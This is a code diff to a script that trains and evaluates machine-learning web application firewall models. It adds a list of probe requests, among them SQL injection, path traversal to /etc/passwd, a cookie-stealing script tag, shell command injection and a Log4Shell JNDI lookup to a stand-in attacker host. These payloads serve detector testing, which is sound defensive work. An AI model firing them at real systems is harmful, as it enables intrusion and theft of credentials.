@@ -54,6 +54,20 @@ BENIGN_ARG_NAMES = ['q', 'search', 'name', 'comment', 'id', 'email', 'page', 'te
 ENDPOINTS = benign.PAGES + ['/search', '/api/v1/items', '/api/v1/comments', '/contact', '/blog/post/12/comments']
 
 
+PROBES = [
+    ('GET', '/search', [('ARGS:q', 'red shoes')]),
+    ('POST', '/comment', [('ARGS:text', "I'm happy with it, thanks!")]),
+    ('POST', '/contact', [('ARGS:name', "O'Brien")]),
+    ('GET', '/item', [('ARGS:id', '5')]),
+    ('POST', '/search', [('ARGS:q', "1' UNION SELECT password FROM users--")]),
+    ('GET', '/item', [('ARGS:id', '1 OR 1=1')]),
+    ('GET', '/download', [('ARGS:file', '../../../../etc/passwd')]),
+    ('POST', '/comment', [('ARGS:text', '<script>alert(document.cookie)</script>')]),
+    ('GET', '/ping', [('ARGS:host', '127.0.0.1;cat /etc/passwd')]),
+    ('GET', '/api', [('ARGS:x', '${jndi:ldap://evil.example/a}')]),
+]
+
+
 def unconfound(request, rng):
     """Hides the test harness: go-ftw sends payloads to /get or /post as "var" or "test"; benign traffic
     never does, so a model could learn the endpoint instead of the payload. Such paths and short
@@ -131,8 +145,9 @@ def main():
 
     iforest = IsolationForest(n_estimators=100, max_samples=256, random_state=SEED).fit(X_benign)
     if_threshold = float(np.quantile(iforest.decision_function(X_benign), TARGET_TRAIN_FPR))
-    rf = RandomForestClassifier(n_estimators=100, max_depth=10, max_leaf_nodes=40, min_samples_leaf=2,
-                                class_weight='balanced', oob_score=True, random_state=SEED, n_jobs=1).fit(X, y)
+    # 50 trees of at most 100 leaves: the deepest forest whose pickle stays under 1 MB.
+    rf = RandomForestClassifier(n_estimators=50, max_leaf_nodes=100, min_samples_leaf=2,
+                                oob_score=True, random_state=SEED, n_jobs=1).fit(X, y)
     # Out-of-bag probabilities: each benign row scored only by trees that did not see it.
     rf_threshold = float(np.quantile(rf.oob_decision_function_[:len(X_benign), 1], 1 - TARGET_TRAIN_FPR))
 
@@ -195,6 +210,16 @@ def main():
                   'attacks carried only in headers or cookies are invisible to waf-v1 (they are left out).\n' % (100 * TARGET_TRAIN_FPR))
         out.write('heldout/benign.jsonl holds %d of the held-out generated benign requests; '
                   'heldout/attack.jsonl holds all held-out attacks.\n' % len(benign_written))
+        out.write('\nHand-written probes (POST/GET with one parameter, hour 14), scored with the shipped thresholds:\n\n')
+        out.write('| request | rf-waf-v1 P(attack) | verdict | iforest-waf-v1 score | verdict |\n|---|---|---|---|---|\n')
+        for method, path, args in PROBES:
+            x = np.array([extract({'method': method, 'path': path, 'args': args, 'files': [], 'sizes': [], 'hour': 14, 'day': 29})])
+            p_rf = float(rf.predict_proba(x)[0, 1])
+            s_if = float(iforest.decision_function(x)[0])
+            shown = '%s %s %s' % (method, path, ' '.join('%s=%s' % (n[5:], v) for n, v in args))
+            out.write('| `%s` | %.3f | %s | %.3f | %s |\n' % (
+                shown.replace('|', '\\|'), p_rf, 'block' if p_rf > round(rf_threshold, 6) else 'pass',
+                s_if, 'block' if s_if < round(if_threshold, 6) else 'pass'))
         importances = sorted(zip(rf.feature_importances_, FEATURE_NAMES), reverse=True)[:10]
         out.write('\nRandomForest feature importances (top 10): %s.\n'
                   % ', '.join('`%s` %.3f' % (name, value) for value, name in importances))
